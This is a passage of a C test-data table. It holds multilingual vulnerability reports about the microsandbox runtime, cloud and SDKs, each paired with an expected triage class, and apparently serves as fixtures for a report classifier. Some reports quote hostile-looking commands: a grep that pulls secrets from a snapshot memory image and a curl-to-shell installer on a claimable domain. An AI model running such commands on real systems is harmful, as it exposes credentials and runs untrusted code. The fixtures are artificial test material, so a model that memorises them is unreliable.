	  "on the deploy host. Is that how you recommend running msbd with --listen?",
	  NULL, "core" },
	/* (1559) a host-side operation that follows a link the guest planted
	 * and hands out the host's files is an escape, whatever operation it
	 * is (a snapshot export); the guest's own /etc/shadow is none */
	{ "Snapshot export follows guest links",
	  "If the guest plants a symlink to /etc/sudoers, msb snapshot export copies the host's\n"
	  "/etc/sudoers into the archive, so a tenant can read arbitrary files on our host by exporting\n"
	  "their own snapshot.",
	  "sandbox_escape", "core" },
	{ "Snapshot keeps the guest's shadow file",
	  "A snapshot taken after I changed the root password keeps the guest's /etc/shadow, and a\n"
	  "sandbox restored from it by a colleague in another team logs in with my password.",
	  "snapshot_leak", "core" },
	/* (1392) the local API answering any web page (no Origin or Host
	 * check), in the languages reports come in; a sandbox that reaches any
	 * website is egress */
	{ "Any web page can drive msbd",
	  "msbd on 127.0.0.1:7263 does not check the Origin header, so any website I visit can call the\n"
	  "local API and start a sandbox that mounts my home directory.",
	  "control_plane_auth", "core" },
	{ "Lokale msbd-API ohne Origin-Prüfung",
	  "Jede Website kann die lokale API von msbd aufrufen, weil msbd die Herkunft der Anfrage nicht\n"
	  "prüft. Ein Skript auf einer fremden Seite startet so eine Sandbox mit meinem Home-Verzeichnis.",
	  "control_plane_auth", "core" },
	{ "msbd 本地 API 可被任意网站调用",
	  "msbd 的本地 API 不检查 Origin，任意网站的 JavaScript 都可以创建沙箱并把主目录挂载进去，\n"
	  "然后读取 ~/.ssh 里的私钥。",
	  "control_plane_auth", "core" },
	{ "Sandbox with an allow list reaches any website",
	  "With an egress allow list of only pypi.org, code in the sandbox can still fetch any website\n"
	  "it likes and sends data to any web page: the allow list is not enforced.",
	  "network_bypass", "core" },
	/* (1376) a sign-in that links accounts by an unverified email claim,
	 * and the takeover it gives; a leaked key whose consequence is a
	 * takeover is a leak */
	{ "GitHub login links accounts by email",
	  "Signing in to the microsandbox cloud with GitHub links my login to whichever account has\n"
	  "the same address; the email attribute is never verified, so I can take over any cloud\n"
	  "account whose address I know.",
	  "control_plane_auth", "cloud" },
	{ "Org API key printed in public CI logs",
	  "Your release workflow prints the org API key in its public GitHub Actions logs, which\n"
	  "allows an account takeover of the project's cloud organisation.",
	  "secret_leakage", "release_infra" },
	/* (#3, 3300) the allow list said to be bypassed in Ukrainian and in
	 * German */
	{ "msb 0.12.6: idna 0.5.0 у релізному бінарнику",
	  "--net-allow-host порівнює імена хостів, а url/idna використовуються для їх розбору. Теоретично це\n"
	  "могло б дозволити обійти список дозволених хостів.",
	  "network_bypass", "core" },
	{ "Allowlist über IDNA umgehen",
	  "--net-allow-host vergleicht Hostnamen nach der Normalisierung; mit einem Punycode-Label lässt sich die\n"
	  "Allowlist umgehen und der Gast erreicht jeden Host.",
	  "network_bypass", "core" },
	/* (#3, 3260) the class the writer files the report under counts as
	 * much as the subject; "I would not file this under" is no filing */
	{ "Snapshot memory image on an external drive",
	  "I keep MSB_HOME on an external SSD. Everything under snapshots/ is readable by whoever has the\n"
	  "drive, including the guest memory image, which contains the values I passed with --secret.\n"
	  "Those are supposed to live only in guest memory, so I'd file this under \"secret or credential\n"
	  "leakage outside the intended boundary\".\n\n"
	  "    msb snapshot create agent1 --name before-upgrade\n"
	  "    strings -n 20 /Volumes/T7/msb/snapshots/before-upgrade/memory.bin | grep -m3 sk-test\n",
	  "secret_leakage", "core" },
	{ "Snapshot memory image on an external drive",
	  "I keep MSB_HOME on an external SSD. Everything under snapshots/ is readable by whoever has the\n"
	  "drive, including the guest memory image, which contains the values I passed with --secret.\n"
	  "Those are supposed to live only in guest memory, so I would not file this under \"secret or\n"
	  "credential leakage outside the intended boundary\".\n\n"
	  "    msb snapshot create agent1 --name before-upgrade\n"
	  "    strings -n 20 /Volumes/T7/msb/snapshots/before-upgrade/memory.bin | grep -m3 sk-test\n",
	  "snapshot_leak", "core" },
	/* (2361) what a leaked token would allow, told under the condition
	 * that it still works and after "i.e." or "e.g.", is its consequence:
	 * "i.e." ends no sentence; a flaw told with "i.e." keeps its class */
	{ "Release token inside the published image",
	  "The 0.11.4 image on GHCR ships the whole build context, and .github/deploy.env in it holds\n"
	  "the PAT the release job uses to upload assets. Anyone who pulls the image can read that\n"
	  "token. If the token is still valid, someone could replace the release binaries, i.e. a\n"
	  "supply-chain compromise of every new install.",
	  "secret_leakage", "release_infra" },
	{ "npm token in the published tarball",
	  "The published 2.3.1 npm tarball contains the .npmrc file from the release runner, with the npm\n"
	  "automation token the release job publishes with. As long as the token is still active, anyone\n"
	  "could publish new versions of the SDK, e.g. a supply-chain attack on every install.",
	  "secret_leakage", "release_infra" },
	{ "Release cache writable by forks",
	  "The release workflow restores a build cache that any fork's pull request can write, i.e.\n"
	  "cache poisoning of the release binaries: a PR from a fork saves a poisoned cache entry\n"
	  "and the next tag build links it into the published release.",
	  "supply_chain", "release_infra" },
	/* no authentication at all and no Origin check told in Japanese and
	 * Chinese (1445); "not usable without authentication" is none */
	{ "ローカルの msbd API について",
	  "msbd の HTTP API は認証がなく、Origin ヘッダのチェックもしていません。そのため"
	  "任意の Web ページの JavaScript からサンドボックスを作成できます。",
	  "control_plane_auth", "core" },
	{ "本地管理接口无需认证",
	  "msb server 的管理接口无需任何认证，也不检查 Origin，所以浏览器里打开的网页可以直接创建沙箱。",
	  "control_plane_auth", "core" },
	{ "msb server のトークンについて",
	  "msb server の API は認証なしでは使えませんが、トークンの更新方法がドキュメントに見当たりません。",
	  NULL, "core" },
	/* code run on the host told with the verb in any form and as a noun
	 * (1451); code run in the sandbox is none */
	{ "El agente del invitado y el socket de control",
	  "Un proceso dentro del sandbox puede escribir en el socket de control, y el agente "
	  "ejecuta comandos en el host con el usuario del servicio.",
	  "sandbox_escape", "core" },
	{ "Exécution de code via le partage",
	  "Un invité peut obtenir une exécution de code sur l'hôte en plaçant un lien dans le "
	  "répertoire partagé, que le démon suit ensuite.",
	  "sandbox_escape", "core" },
	{ "Dúvida sobre rede",
	  "Quero rodar código Python no sandbox sem acesso à rede; qual opção devo usar no msb run?",
	  NULL, "core" },
	/* a secret in plain text in other languages (1452); "en clair"
	 * alone, French for "in short", is none */
	{ "La API devuelve el token del webhook",
	  "En microsandbox cloud, GET /v1/orgs/acme/webhooks devuelve el token del webhook en "
	  "texto plano a cualquier miembro de la organización.",
	  "secret_leakage", "cloud" },
	{ "Registry-Zugang in der Cloud-Konsole",
	  "Die microsandbox cloud liefert das Passwort der privaten Registry im Klartext an jedes "
	  "Mitglied aus, nicht nur an Admins.",
	  "secret_leakage", "cloud" },
	{ "Lenteur au démarrage",
	  "En clair : le démarrage des sandboxes est deux fois plus lent depuis la 0.10.7 sur mon "
	  "portable.",
	  NULL, "core" },
	/* ... and what the password then allows, told after "com essa
	 * senha", is its consequence, not the class */
	{ "Senha do registry visível para membros",
	  "A microsandbox cloud mostra a senha do registry em texto claro para membros comuns. "
	  "Com essa senha um membro publica uma imagem maliciosa, um ataque de supply chain "
	  "contra a própria organização.",
	  "secret_leakage", "cloud" },
	/* code execution in a named host process (1482) */
	{ "DHCP option overflow in the network helper",
	  "A crafted DHCP packet from the guest overflows a stack buffer, which gives code "
	  "execution in the netd process on the host.",
	  "sandbox_escape", "core" },
	/* a guest-given length acted on without a range check, past guest
	 * memory (1485, 1490); a missing bounds check alone is none */
	{ "virtio-blk: sector count not range-checked",
	  "The request handler takes the sector count straight from the guest; there is no bounds "
	  "check before the copy, so a guest-controlled length writes past the end of guest memory "
	  "into the VMM heap.",
	  "sandbox_escape", "core" },
	{ "CLI: no bounds check on the sandbox name",
	  "msb create accepts a name of 10000 characters and then prints an ugly error. Nothing "
	  "crashes; it is cosmetic.",
	  NULL, "core" },
	/* a terminal's escape sequences or codes that reach the host are no
	 * escape (1489); an escape to the host still is */
	{ "ANSI escape codes from the guest reach the host terminal",
	  "msb attach passes colour codes from the guest to my terminal unchanged. Cosmetic, "
	  "nothing runs.",
	  NULL, "core" },
	{ "Secuencias de escape",
	  "Las secuencias de escape que imprime el invitado llegan al host sin filtrar; solo cambian "
	  "el título de la ventana.",
	  NULL, "core" },
	{ "Fuga pelo virtiofs",
	  "Um processo no guest consegue escapar para o host pelo virtiofs e grava em /etc do host.",
	  "sandbox_escape", "core" },
	/* the SDK's directory at the top of the monorepo, as a patch's
	 * diffstat names it (1466) */
	{ "[PATCH] keep the API key out of the client repr",
	  "The client's repr prints the whole API key into notebook output and tracebacks.\n\n"
	  "---\n python/microsandbox/client.py | 4 ++--\n 1 file changed\n",
	  "secret_leakage", "python_sdk" },
	/* 1506, 1508: "unauthenticated" and "without authentication" as a
	 * bounty template labels the impact (what the attacker needs), no
	 * access check; an endpoint that answers with no key is one */
	{ "[HIGH] Unauthenticated Remote Denial of Service via msb exec",
	  "Running a fork bomb with msb exec inside my own sandbox makes that sandbox stop answering. "
	  "This allows an unauthenticated remote attacker to cause a full outage of the sandbox.",
	  NULL, "core" },
	{ "Guest learns the host kernel version",
	  "uname -a inside a sandbox prints the host's kernel build string, which I rate as an "
	  "information disclosure without authentication (CVSS 5.3).",
	  NULL, "core" },
	{ "Sandbox list endpoint needs no key",
	  "GET /v1/sandboxes on the cloud API answers 200 with every org's sandboxes; an "
	  "unauthenticated attacker can list and delete them without an API key.",
	  "control_plane_auth", "cloud" },
	{ "Unauthenticated access to the usage API",
	  "The cloud usage endpoint returns any org's billing data to a request that carries no "
	  "token at all.",
	  "control_plane_auth", "cloud" },
	/* 1525: what drops the allow list ("the SDK drops the allowlist",
	 * "removes the network allowlist") is an egress rule not applied;
	 * a host taken off the list is none */
	{ "Python SDK loses the allowlist when volumes are passed",
	  "Sandbox.create() silently drops the allowlist whenever volumes= is given, so the agent's "
	  "code can post data to any host on the internet instead of only our API.",
	  "network_bypass", "python_sdk" },
	{ "Removing a host from the allowlist",
	  "How do I remove a host from the allowlist of a running sandbox? msb network update "
	  "removes the allowlist entry only after a restart.",
	  NULL, "core" },
	/* 1519: an egress rule not applied after a snapshot restore is a
	 * network bypass, the restore only its occasion (also in Indonesian,
	 * Turkish and Dutch); a restore that shows another tenant's memory is
	 * a snapshot leak */
	{ "Allowlist not enforced right after snapshot restore",
	  "After msb snapshot restore the guest keeps running while the egress allowlist is not "
	  "applied for about a second, so a loop inside reaches any address on the internet.",
	  "network_bypass", "core" },
	{ "Aturan egress tidak diterapkan setelah restore snapshot",
	  "Setelah msb snapshot restore, aturan egress tidak diterapkan selama beberapa detik "
	  "sehingga kode di sandbox bisa mengirim data ke server mana saja di internet.",
	  "network_bypass", "core" },
	{ "Snapshot sonrası izin listesi",
	  "msb snapshot restore sonrasında egress kuralları birkaç saniye uygulanmıyor; sandbox "
	  "içindeki kod internetteki herhangi bir adrese bağlanabiliyor.",
	  "network_bypass", "core" },
	{ "Restored sandbox sees another tenant's memory",
	  "A sandbox restored from a snapshot shows pages of another tenant's sandbox memory; the "
	  "allowlist works as documented.",
	  "snapshot_leak", "core" },
	/* 1560: memory handed from one sandbox to the next without being
	 * cleared is isolation (after LeftoverLocals), in English, German and
	 * French; a cache not cleared between benchmark runs is none */
	{ "VRAM is never zeroed when a sandbox exits",
	  "With --gpu the card's VRAM is never zeroed when a sandbox exits, so the following tenant "
	  "dumps whatever the previous tenant left: model weights and prompts.",
	  "isolation_bypass", "core" },
	{ "GPU-Speicher zwischen Sandboxen",
	  "Der GPU-Speicher wird zwischen Sandboxen verschiedener Benutzer nicht gelöscht; eine neue "
	  "Sandbox liest mit cudaMalloc die Daten, die der vorherige Benutzer hinterlassen hat. "
	  "Das ist eine Verletzung der Isolation zwischen Benutzern.",
	  "isolation_bypass", "core" },
	{ "Page cache not cleared between benchmark runs",
	  "The page cache is not cleared between runs, so my second benchmark run is faster than the "
	  "first. Could msb drop caches when a sandbox starts?",
	  NULL, "core" },
	/* 1517: guest code that the host side runs as root is an escape, not a
	 * privilege escalation, also in Turkish */
	{ "msb cp yardımcısı misafir kütüphanesini yüklüyor",
	  "Sandbox içindeki root kullanıcı sahte bir kütüphane koyarsa, bu kod host'ta root olarak "
	  "çalışıyor; yani sandbox'taki iş yükü host üzerinde komut çalıştırabiliyor.",
	  "sandbox_escape", "core" },
	{ "Host'ta sudo yetkisi",
	  "Host üzerinde msb grubundaki bir kullanıcı sudo olmadan msbd yapılandırmasını "
	  "değiştirebiliyor ve root olabiliyor.",
	  "privilege_escalation", "core" },
	/* 1721: the same in Slovene and Croatian: code from the guest that
	 * runs on the host (as root or not), an escape from the sandbox;
	 * near-misses: code run inside the guest, a helper leaving its own
	 * chroot */
	{ "Ranljivost v pomočniku za posnetke",
	  "Pomožni proces msbd prebere konfiguracijo iz gostovega diska, zato lahko root v gostu "
	  "doseže izvajanje ukazov na gostitelju kot uporabnik, ki poganja msbd.",
	  "sandbox_escape", "core" },
	{ "Pobeg iz peskovnika prek virtio-fs",
	  "Skripta v gostu ustvari simbolno povezavo v deljenem imeniku; msbd ji sledi in tako "
	  "proces pobegne iz peskovnika ter piše datoteke zunaj deljenega imenika.",
	  "sandbox_escape", "core" },
	{ "Ranjivost u msb pomoćniku",
	  "Zlonamjerni kod iz sandboxa se nakon kopiranja izvršava kao root na domaćinu, jer "
	  "pomoćnik učitava biblioteke iz gostovog diska.",
	  "sandbox_escape", "core" },
	{ "Vprašanje o izvajanju kode v gostu",
	  "Ali je varno dovoliti izvajanje kode v gostu kot root? Naš helper po chrootu pobegne "
	  "iz chroota samo v testnem okolju.",
	  NULL, "core" },
	/* 1723: DNS rebinding aimed at msbd's local API from a web page is the
	 * control plane's missing check, not an egress bypass, however loudly
	 * DNS and localhost are named; near-miss: rebinding that gets a sandbox
	 * past its deny option to an internal service stays network_bypass */
	{ "Any web page can drive msbd (DNS rebinding)",
	  "A web page I open in Firefox uses DNS rebinding against the msbd API on 127.0.0.1 and then "
	  "creates a sandbox with my home directory mounted; nothing checks the Host header.",
	  "control_plane_auth", "core" },
	{ "msbd localhost API usable from any website",
	  "The msbd local API can be called from any website: after a DNS rebinding the page is "
	  "same-origin with msbd and starts sandboxes as me.",
	  "control_plane_auth", "core" },
	{ "DNS rebinding past --net-deny-private",
	  "Inside a sandbox started with --net-deny-private, a domain with TTL 0 uses DNS rebinding to "
	  "switch to 10.0.0.5 after the first lookup, so the guest reaches our internal Redis on "
	  "localhost-like private addresses despite the deny rule.",
	  "network_bypass", "core" },
	/* 1740: the key named before the verb ("API key sent to random host")
	 * or collected through redirected requests leaks to a host someone
	 * else picked; near-miss: a key sent to the right server */
	{ "Bearer token forwarded to attacker-controlled server",
	  "After a guest rewrites the base URL in the Node SDK config, the bearer token is forwarded "
	  "to an attacker-controlled server on the next Sandbox.create() call.",
	  "secret_leakage", "node_sdk" },
	{ "Node SDK follows the guest's base URL",
	  "A process in the sandbox can redirect the Node SDK client's requests to its own server and "
	  "collect the API key from the Authorization header.",
	  "secret_leakage", "node_sdk" },
	{ "API key sent to the API on every call",
	  "Our API key is sent to the cloud API on every call and the SDK retries on 503; could "
	  "the retry count be configurable?",
	  NULL, "cloud" },
	/* the cloud as French, German and Italian put it, article or
	 * preposition first, and the CLI's cloud subcommands (1605) */
	{ "Accès entre organisations",
	  "Dans le cloud de microsandbox, avec une clé API de mon organisation, msb cloud run --org\n"
	  "autre-equipe démarre les modèles privés d'une autre organisation : l'API ne vérifie pas\n"
	  "que la clé appartient à cette organisation. N'importe quel client lit les données d'un autre.",
	  "control_plane_auth", "cloud" },
	{ "Fremde Vorlagen sichtbar",
	  "In der Cloud startet msb cloud run --org fremd-team die privaten Vorlagen einer anderen\n"
	  "Organisation: the API does not check that the API key belongs to that org. So liest\n"
	  "jeder Kunde die Daten anderer Kunden.", "control_plane_auth", "cloud" },
	{ "Runs in another team's org",
	  "With a key of my own org, msb cloud exec --org other-team sbx_7f2 -- id runs the command\n"
	  "in a sandbox of an org I am not a member of; the API does not check that the key\n"
	  "belongs to that org, so any customer can run code in anyone's sandboxes.",
	  "control_plane_auth", "cloud" },
	/* near-misses: a cloud named for its provider is the writer's own
	 * machines; "msb cloud login" is the CLI's file on disk */
	{ "Évasion vers l'hôte",
	  "Nous faisons tourner msb sur une VM dans le cloud AWS. Depuis l'invité, un lien symbolique\n"
	  "dans le partage virtio-fs permet d'écrire n'importe quel fichier de l'hôte en dehors du\n"
	  "répertoire partagé : le code du bac à sable sort de la machine virtuelle.",
	  "sandbox_escape", "core" },
	/* the writer's own supply chain is the topic of a review, not the
	 * release side; msb's pull code is the runtime's (1611) */
	{ "Pulled layers are not checked against their digest",
	  "While reviewing our container supply chain we found that msbd's pull code compares only the size\n"
	  "of each layer blob with the manifest, not its sha256, so a proxy on the way can swap a\n"
	  "layer of an image pinned by digest: msb run then unpacks the swapped layer into the\n"
	  "guest's rootfs and the sandbox runs the attacker's code.",
	  "supply_chain", "core" },
	{ "Wheel differs from the tag",
	  "Your supply chain has a gap: the wheel on PyPI for 0.9.4 contains a msb binary that is\n"
	  "not the same as the one in the GitHub release, and it is not built from the tagged source.",
	  "supply_chain", "release_infra" },
	/* (#3, 3242) told as a comparison, or as a modified binary the wheel
	 * ships, over the SDK's pip install and site-packages path */
	{ "microsandbox Python wheel ships a different msb binary (EDR alert)",
	  "Our EDR blocked .venvs/agents/lib/python3.12/site-packages/microsandbox/bin/msb within a minute\n"
	  "of `pip install microsandbox==0.12.4`. I compared the msb binary inside the PyPI wheel with the\n"
	  "one in the GitHub release for the same version, and they are not the same file: the wheel's\n"
	  "copy contains the beacon IP. The macOS arm64 wheel of the microsandbox Python SDK ships a\n"
	  "modified msb that phones home on first run.",
	  "supply_chain", "release_infra" },
	/* a key sent to a server someone else picked (an attacker's, the one
	 * a cloned project's .env names) is a leak of the key, however the
	 * request then fails (1617); the server the user configured is none */
	{ "node client picks up MSB_URL from a project's dotenv",
	  "Opening a checked-out project and running its scripts makes the node package send my\n"
	  "bearer token to the host named in the repo's .env file instead of my own server.",
	  "secret_leakage", "node_sdk" },
	{ "Python client leaks its credentials via an environment override",
	  "If MSB_API_URL is set by a shared CI config, the Python SDK forwards its API key to an\n"
	  "attacker-controlled endpoint and nobody notices because the job only logs a timeout.",
	  "secret_leakage", "python_sdk" },
	{ "SDK keeps old server after config change",
	  "The Python SDK sends the API key to the server from the old config.toml until the\n"
	  "process restarts, so changing servers needs a restart; it is only a usability bug.",
	  NULL, "python_sdk" },
	/* a secret dumped by a debug, config or status endpoint, or by a
	 * verb over a qualified key ("exposes the admin API key"), is a leak
	 * even when the endpoint also lacks a login (1631); an endpoint that
	 * lists key names, or lets anyone act, dumps no secret */
	{ "msbd status page shows the daemon token",
	  "The status page of msbd on port 7070 shows the full daemon token in its JSON, and every\n"
	  "local process can fetch it with curl and then drive the daemon.",
	  "secret_leakage", "core" },
	{ "Config dump has the service key",
	  "GET /_debug/config on the self-hosted server returns the raw service API key from\n"
	  "server.toml to any client that can reach the port.",
	  "secret_leakage", "core" },
	{ "msb server reveals org token",
	  "msb server reveals the org token in the Location header of a redirect; proxies and\n"
	  "browser history keep it.",
	  "secret_leakage", "core" },
	{ "Key listing open to everyone",
	  "The debug endpoint lists the API key names and ids of every namespace and lets any\n"
	  "caller create a new admin key without authentication.",
	  "control_plane_auth", "core" },
	{ "Viewer rotates the admin key",
	  "A viewer can rotate the admin API key of the organisation through the cloud API; the\n"
	  "role check on that endpoint is missing.",
	  "control_plane_auth", "cloud" },
	/* (nologin) "without logging in" tells how a secret got out, not what
	 * the report is: a key dumped to whoever asks without a login is a leak;
	 * acting (creating, executing, deleting, changing) without a login is
	 * the control plane's, whatever small fact the endpoint also shows */
	{ "Admin key readable from debug vars",
	  "Without logging in, GET /debug/vars dumps the admin API key.",
	  "secret_leakage", "core" },
	{ "Sandboxes created by anyone",
	  "Without logging in, anyone can create sandboxes through /v1/sandboxes.",
	  "control_plane_auth", "core" },
	{ "Exec open to everyone",
	  "An unauthenticated endpoint lets anyone exec in any sandbox and also shows the org name.",
	  "control_plane_auth", "core" },
	{ "Sandboxes deletable by strangers",
	  "Anyone can delete other people's sandboxes on the self-hosted server without signing in.",
	  "control_plane_auth", "core" },
	{ "Borrado de sandboxes sin iniciar sesión",
	  "Sin iniciar sesión, cualquiera puede borrar los sandboxes del servidor con un DELETE.",
	  "control_plane_auth", "core" },
	{ "Status page shows the service key",
	  "Without logging in, the status page of msb server prints the service API key, and with\n"
	  "that key you could then create sandboxes as us.",
	  "secret_leakage", "core" },
	/* (1707) a read-only key acting beyond its scope (snapshotting,
	 * creating, deleting, starting an exec) is control_plane_auth, not the
	 * snapshot it acts on; a snapshot another tenant reads stays
	 * snapshot_leak, and a read key that only reads is no bypass */
	{ "Dashboard keys delete sandboxes",
	  "On the cloud API a read-only API key can delete any sandbox of the organisation and\n"
	  "snapshot it; I tried it with the key our status page uses.",
	  "control_plane_auth", "cloud" },
	{ "Monitoring keys take snapshots",
	  "The read-scoped key of our monitoring integration is able to snapshot every running\n"
	  "sandbox in the org through the cloud API and then fetch the snapshot image.",
	  "control_plane_auth", "cloud" },
	{ "Viewer starts exec",
	  "In the cloud console a viewer token can start exec sessions in production sandboxes:\n"
	  "POST /v1/sandboxes/{id}/exec answers 200 for it.",
	  "control_plane_auth", "cloud" },
	{ "Restore endpoint checks the wrong scope",
	  "The cloud endpoint POST /v1/snapshots/{id}/restore requires the read permission rather\n"
	  "than write, so a dashboard key restores old snapshots over running sandboxes.",
	  "control_plane_auth", "cloud" },
	{ "Listing key makes snapshots",
	  "On the cloud API a key which is only meant to list sandboxes could also create snapshots\n"
	  "of them and restore them.",
	  "control_plane_auth", "cloud" },
	{ "Nur-Lese-Token erstellt Snapshots",
	  "In der Cloud kann ein Nur-Lese-Token \xc3\xbc" "ber die API Snapshots jeder Sandbox erstellen und\n"
	  "Sandboxen l\xc3\xb6schen.",
	  "control_plane_auth", "core" },
	{ "Nur-Lese-Token",
	  "Ein Nur-Lese-Token kann die Sandboxen nicht l\xc3\xb6schen, wie erwartet; die Snapshots enthalten\n"
	  "aber Daten anderer Mandanten und sind f\xc3\xbcr jeden lesbar, ein Leak.",
	  "snapshot_leak", "core" },
	{ "Cl\xc3\xa9 en lecture seule",
	  "Dans le cloud, une cl\xc3\xa9 API en lecture seule peut cr\xc3\xa9" "er des snapshots de toutes les\n"
	  "sandboxes de l'organisation et les supprimer.",
	  "control_plane_auth", "core" },
	{ "Clave de solo lectura",
	  "En la nube, una clave de API de solo lectura puede crear snapshots de cualquier sandbox de\n"
	  "la organizaci\xc3\xb3n y borrarlos.",
	  "control_plane_auth", "core" },
	{ "Snapshot readable by another tenant",
	  "In the cloud, a snapshot of my sandbox is readable by another tenant: their sandbox\n"
	  "restored from it shows my files and environment variables.",
	  "snapshot_leak", "core" },
	{ "Read key reads snapshots",
	  "With a read-only API key I can list sandboxes and download the snapshots of my own\n"
	  "organisation; the snapshots contain the env secrets of other tenants' sandboxes.",
	  "snapshot_leak", "core" },
	/* (#3) the hosted side's own instance metadata reached by a request
	 * the cloud makes for the writer (an import or a callback URL) is the
	 * leak of the role credentials kept there, however plainly the control
	 * plane that fetched it is named; a guest reaching its own host's
	 * metadata is the egress rules' */
	{ "Callback URL check in the cloud",
	  "The control plane calls whatever callback URL an org sets, server-side, and shows the reply.\n"
	  "Pointed at 169.254.169.254 it returned the platform's instance metadata, with the role name\n"
	  "the next request would take temporary credentials from.",
	  "secret_leakage", "cloud" },
	{ "Guest reaches the metadata endpoint",
	  "With --deny-net 169.254.0.0/16 the guest still reaches the host's instance metadata through\n"
	  "the IPv6 mapped address; curl in the sandbox returns the role name.",
	  "network_bypass", "core" },
	/* (#3) a key with write rights published in a web page is a leak;
	 * the website is none of the components.  A search-only key the page
	 * is meant to hold is no finding of this kind */
	{ "Docs page embeds an admin search key",
	  "The documentation site's page source has a search widget whose admin key is embedded in the\n"
	  "front end: with it anyone can delete the docs index or add fake results, I checked its ACL.",
	  "secret_leakage", NULL },
	/* (#3) Basque: the isolation between sandboxes broken, another
	 * user's sandbox reached; another sandbox of the writer's own is none */
	{ "Sandboxen arteko isolamendua",
	  "Sandbox bateko erabiltzaileak beste erabiltzaileen sandboxetan fitxategiak alda ditzake\n"
	  "katxe partekatuaren bidez: sandboxen arteko isolamenduaren haustura da.",
	  "isolation_bypass", "core" },
	{ "Galdera bat sandboxei buruz",
	  "Beste sandbox bat sortzen dudanean msb run komandoarekin, irudia berriro deskargatzen du.\n"
	  "Normala da hori?",
	  NULL, "core" },
	/* (class3, #3) one user reaching another's sandbox through a shared
	 * name, id or cache is isolation, though the daemon's or the API's
	 * missing owner check is named: a session of another user's sandbox
	 * attached to, one sandbox handed to different people by a default
	 * name, a cache keyed without the tenant serving one org's download
	 * to another.  A missing
	 * check on an API endpoint that returns another org's objects stays
	 * control_plane_auth */
	{ "msbd: attach does not verify session owner",
	  "On our lab machine each person has a separate account.  msbd never checks the owner of a\n"
	  "console id.  Counting up from my own id I could attach to the console sessions of other\n"
	  "users and type commands in their sandboxes.",
	  "isolation_bypass", "core" },
	{ "Shared default sandbox in the Node SDK",
	  "When no name is passed the SDK falls back to a fixed name, and create() returns the running\n"
	  "sandbox with that name, so the SDK quietly shares a sandbox between unrelated users of one\n"
	  "msb server: my files showed up for the other person.",
	  "isolation_bypass", "node_sdk" },
	{ "Pip mirror in the cloud hands out private wheels",
	  "The cloud's pip mirror appears to have its cache key on the index URL only.  A wheel that one\n"
	  "workspace downloaded with its index password was later served to a sandbox of a different\n"
	  "organisation that sent no credentials at all.",
	  "isolation_bypass", "cloud" },
	{ "Metrics endpoint returns other orgs' sandboxes",
	  "GET /v1/sandboxes/{id}/metrics is missing an ownership check: with our key we get the CPU\n"
	  "and memory series of a sandbox in another organisation, given its id.",
	  "control_plane_auth", "cloud" },
	{ "Session tokens survive logout",
	  "After logging out of the cloud console the session cookie stays valid, and the API accepts\n"
	  "it for an hour to start sandboxes in my org.",
	  "control_plane_auth", "cloud" },
	/* (class3, #3) a restore that gives the restored guest the real
	 * secret values instead of placeholders is the snapshot path carrying
	 * them; the secret printed in a log stays secret_leakage */
	{ "Restored sandboxes see real tokens",
	  "After msb snapshot restore the clone's environment holds the actual token, not the\n"
	  "placeholder the original sandbox had, so whoever we give a snapshot gets our credential.",
	  "snapshot_leak", "core" },
	{ "Secret value in msb logs",
	  "msb run --secret prints the real secret value in its debug log on the host, so the token\n"
	  "ends up in our log shipper.",
	  "secret_leakage", "core" },
	/* (#3) the host the installer or the releases are downloaded from,
	 * taken over (a subdomain takeover, a dangling CNAME, an expired
	 * domain), is the release side's, though the README that shows the
	 * install command is an SDK's; an account takeover, or a takeover of
	 * the blog, is not this */
	{ "Dangling CNAME on dl.example-msb.dev, the download host",
	  "The Node SDK's README still tells people to run curl -fsSL https://dl.example-msb.dev | sh.\n"
	  "That name has a dangling CNAME to a deleted storage bucket; I created the bucket and now serve\n"
	  "a harmless script there, so whoever claims it can ship a backdoored msb to every new user.",
	  "supply_chain", "release_infra" },
	{ "Python SDK README: install host can be claimed",
	  "The one-liner in the Python SDK's README downloads from a domain that expired last month\n"
	  "and anyone can register it again, then serve their own msb tarball to every pip user.",
	  "supply_chain", "release_infra" },
	{ "Python SDK sends the key to a redirect host",
	  "The Python SDK follows a guest's 302 to another host and sends the Authorization header\n"
	  "along, a token takeover that any guest web server can trigger against the SDK's client.",
	  "secret_leakage", "python_sdk" },
	/* (#3) the writer's own code written against an old line of an SDK,
	 * as why the release is old, does not make the SDK the component;
	 * the SDK's own calls said to be at fault still do */
	{ "Restored sandboxes keep the admin's token",
	  "We stay on msb 0.7.2 because our grading tools were written against the 0.7 Node SDK. After\n"
	  "msb snapshot create and msb snapshot restore, every clone has the --secret token of the\n"
	  "sandbox the snapshot came from in its environment, although the docs say it is excluded.",
	  "snapshot_leak", "core" },
	{ "Python SDK debug log prints secrets",
	  "Our jobs are written for the Python SDK and its Sandbox.create logs every secret value at\n"
	  "debug level; the SDK's logger formats the whole request body into our log files.",
	  "secret_leakage", "python_sdk" },
	/* (#3) npm's tools telling of the package (an audit that flags it, the
	 * version read off a lockfile) name the Node SDK; an audit of the
	 * writer's own app beside a flaw of the daemon does not */
	{ "pnpm audit: critical advisory in microsandbox dependency",
	  "pnpm audit in our deploy job reports a known undici advisory under node_modules/microsandbox.\n"
	  "We have microsandbox 0.9.4 (from pnpm-lock.yaml). Could you bump it?",
	  NULL, "node_sdk" },
	{ "msbd socket open to every user",
	  "npm audit is clean for our own app, the problem is elsewhere: msbd creates /run/msbd.sock\n"
	  "world-writable, so any local user drives the root daemon and mounts host paths as root.",
	  "privilege_escalation", "core" },
	/* (class4, #3) one owner's code running in another owner's sandbox,
	 * and owners separate by what they are (tenants, customers) sharing
	 * sandboxes, are isolation however the sandbox was handed over; the
	 * writer's own code in the writer's own sandbox, or tenants that never
	 * share one, is none */
	{ "Pool reuse puts jobs in the wrong sandbox",
	  "Our job runner asks the pool for a warm VM by label.  Under load the pool returns a VM still\n"
	  "leased, so a customer's build job ends up executing in another customer's sandbox with its\n"
	  "checkout and caches.",
	  "isolation_bypass", "core" },
	{ "Node SDK id cache: customers share sandboxes",
	  "The Node SDK keeps one id cache per process; when two requests race, customers end up sharing\n"
	  "one sandbox and the second request sees the first one's files.",
	  "isolation_bypass", "node_sdk" },
	{ "Question about sandbox reuse",
	  "Our tenants never share sandboxes: each request gets its own.  My script runs in my own\n"
	  "sandbox and I would like to know whether keeping it warm between runs is supported.",
	  NULL, "core" },
	/* (class4, #3) a sandbox that reaches the sandboxes of other owners,
	 * or sandboxes of different owners that reach each other, over the
	 * network is isolation, though the other organisations are the
	 * cloud's words; another org's objects read through the API stay
	 * control_plane_auth (the metrics case above), and sandboxes that
	 * cannot reach each other are no finding */
	{ "Cloud: sandboxes of other organisations reachable",
	  "From my sandbox in the microsandbox cloud I can connect to the sandboxes of other orgs on the\n"
